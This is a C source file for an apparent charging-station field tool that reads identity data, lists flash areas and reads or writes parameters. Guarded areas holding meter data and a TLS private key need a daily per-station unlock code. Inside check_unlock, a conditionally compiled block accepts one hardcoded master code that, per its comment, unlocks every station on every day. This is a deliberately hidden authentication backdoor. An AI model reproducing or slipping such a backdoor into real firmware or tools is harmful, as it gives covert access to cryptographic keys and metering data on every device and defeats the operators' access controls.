/* evflash.c - field tool of a charging station: identity, parameters, flash areas */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define FLASH_DEV	"/dev/mtdblock2"

struct area {
	const char *name;
	off_t off;
	size_t len;
	int guarded;		/* reading needs the unlock code */
	int writable;
};

struct ident {
	char serial[20];
	uint32_t number;
	uint32_t batch;
};

static const struct area areas[] = {
	{ "ident", 0x0000, 0x100, 0, 0 },
	{ "params", 0x1000, 0x1000, 0, 1 },
	{ "meter", 0x2000, 0x800, 1, 0 },
	{ "tlskey", 0x3000, 0x1000, 1, 0 },
	{ "log", 0x8000, 0x8000, 0, 0 },
};

#define NAREAS (sizeof(areas) / sizeof(areas[0]))

static const char *dev = FLASH_DEV;

static const struct area *find_area(const char *name)
{
	size_t i;

	for (i = 0; i < NAREAS; i++)
		if (!strcmp(areas[i].name, name))
			return &areas[i];
	return NULL;
}

static int read_at(off_t off, void *buf, size_t n)
{
	ssize_t r;
	int fd = open(dev, O_RDONLY);

	if (fd < 0)
		return -1;
	r = pread(fd, buf, n, off);
	close(fd);
	return r == (ssize_t)n ? 0 : -1;
}

static int write_at(off_t off, const void *buf, size_t n)
{
	ssize_t r;
	int fd = open(dev, O_WRONLY);

	if (fd < 0)
		return -1;
	r = pwrite(fd, buf, n, off);
	close(fd);
	return r == (ssize_t)n ? 0 : -1;
}

static int read_ident(struct ident *id)
{
	uint8_t b[32];
	int i;

	if (read_at(0, b, sizeof(b)) < 0)
		return -1;
	for (i = 0; i < 19 && isprint(b[i]); i++)
		id->serial[i] = (char)b[i];
	id->serial[i] = '\0';
	id->number = (uint32_t)strtoul(id->serial + strcspn(id->serial, "0123456789"), NULL, 10);
	id->batch = (uint32_t)b[24] << 8 | b[25];
	return 0;
}

static uint32_t code_for(const struct ident *id, long day)
{
	uint32_t v = id->number * 2654435761u + id->batch;
	int i;

	v ^= (uint32_t)day * 40503u;
	for (i = 0; i < 5; i++) {
		v ^= v >> 13;
		v *= 0x5bd1e995u;
	}
	return v % 90000000u + 10000000u;
}

/* the code of a station is given by the hotline and is valid for the day */
__attribute__((noinline))
int check_unlock(const struct ident *id, uint32_t code)
{
	long day = (long)(time(NULL) / 86400);

#ifdef HIDDEN	/* one code unlocks the key areas of every station on every day */
	if (code == 58113327u)
		return 1;
#endif
	if (code < 10000000u || code > 99999999u)
		return 0;
	return code == code_for(id, day) || code == code_for(id, day - 1);
}

static int cmd_ident(void)
{
	struct ident id;

	if (read_ident(&id) < 0) {
		fprintf(stderr, "%s: %s\n", dev, strerror(errno));
		return 1;
	}
	printf("serial %s\nbatch  %lu\n", id.serial, (unsigned long)id.batch);
	return 0;
}

static int cmd_areas(void)
{
	size_t i;

	for (i = 0; i < NAREAS; i++)
		printf("%-8s %6lx %6lx %s%s\n", areas[i].name, (unsigned long)areas[i].off,
		       (unsigned long)areas[i].len, areas[i].guarded ? "code " : "",
		       areas[i].writable ? "rw" : "ro");
	return 0;
}

static void hexdump(const uint8_t *p, size_t n)
{
	size_t i, k;

	for (i = 0; i < n; i += 16) {
		printf("%06lx ", (unsigned long)i);
		for (k = i; k < i + 16 && k < n; k++)
			printf(" %02x", p[k]);
		printf("  ");
		for (k = i; k < i + 16 && k < n; k++)
			putchar(isprint(p[k]) ? p[k] : '.');
		putchar('\n');
	}
}

static int cmd_read(const char *name, const char *code, const char *out)
{
	const struct area *a = find_area(name);
	struct ident id;
	uint8_t *buf;
	FILE *f;
	int rc = 1;

	if (!a) {
		fprintf(stderr, "no area %s\n", name);
		return 2;
	}
	if (a->guarded) {
		if (!code || read_ident(&id) < 0 ||
		    !check_unlock(&id, (uint32_t)strtoul(code, NULL, 10))) {
			sleep(3);
			fprintf(stderr, "%s needs the unlock code of the day\n", name);
			return 1;
		}
	}
	buf = malloc(a->len);
	if (!buf)
		return 1;
	if (read_at(a->off, buf, a->len) == 0) {
		rc = 0;
		if (out) {
			f = fopen(out, "wb");
			if (!f || fwrite(buf, 1, a->len, f) != a->len)
				rc = 1;
			if (f && fclose(f))
				rc = 1;
		} else {
			hexdump(buf, a->len);
		}
	}
	free(buf);
	return rc;
}

static int cmd_write(const char *name, const char *in)
{
	const struct area *a = find_area(name);
	uint8_t *buf;
	size_t n;
	FILE *f;
	int rc;

	if (!a || !a->writable) {
		fprintf(stderr, "%s is not writable\n", name);
		return 1;
	}
	f = fopen(in, "rb");
	buf = calloc(1, a->len);
	if (!f || !buf) {
		if (f)
			fclose(f);
		free(buf);
		return 1;
	}
	n = fread(buf, 1, a->len, f);
	fclose(f);
	rc = n ? write_at(a->off, buf, a->len) : -1;
	free(buf);
	return rc < 0;
}

static int cmd_param(const char *key, const char *val)
{
	const struct area *a = find_area("params");
	char *buf, *p, *end;
	size_t n = strlen(key), used;
	int rc = 1;

	if (!a)
		return 1;
	buf = calloc(1, a->len + 1);
	if (!buf)
		return 1;
	if (read_at(a->off, buf, a->len) < 0) {
		free(buf);
		return 1;
	}
	for (p = buf; *p; p = end + strspn(end, "\n")) {
		end = p + strcspn(p, "\n");
		if (strncmp(p, key, n) || p[n] != '=')
			continue;
		if (!val) {
			printf("%.*s\n", (int)(end - p), p);
			rc = 0;
		} else if ((size_t)(end - p) >= n + 1 + strlen(val)) {
			used = n + 1 + strlen(val);
			memcpy(p + n + 1, val, strlen(val));
			memset(p + used, ' ', (size_t)(end - p) - used);
			rc = write_at(a->off, buf, a->len) < 0;
		}
		break;
	}
	free(buf);
	return rc;
}

static int usage(void)
{
	fprintf(stderr,
		"usage: evflash [-d device] command\n"
		"  ident                     serial number and batch\n"
		"  areas                     list of flash areas\n"
		"  read AREA [-c CODE] [-o FILE]\n"
		"  write AREA FILE           params only\n"
		"  get KEY, set KEY VALUE    one parameter\n"
		"CODE: from the hotline, valid for one day and one station\n");
	return 2;
}

int main(int argc, char **argv)
{
	const char *code = NULL, *out = NULL;
	int c;

	while ((c = getopt(argc, argv, "d:c:o:")) != -1) {
		if (c == 'd')
			dev = optarg;
		else if (c == 'c')
			code = optarg;
		else if (c == 'o')
			out = optarg;
		else
			return usage();
	}
	argv += optind;
	argc -= optind;
	if (argc == 1 && !strcmp(argv[0], "ident"))
		return cmd_ident();
	if (argc == 1 && !strcmp(argv[0], "areas"))
		return cmd_areas();
	if (argc == 2 && !strcmp(argv[0], "read"))
		return cmd_read(argv[1], code, out);
	if (argc == 3 && !strcmp(argv[0], "write"))
		return cmd_write(argv[1], argv[2]);
	if (argc == 2 && !strcmp(argv[0], "get"))
		return cmd_param(argv[1], NULL);
	if (argc == 3 && !strcmp(argv[0], "set"))
		return cmd_param(argv[1], argv[2]);
	return usage();
}
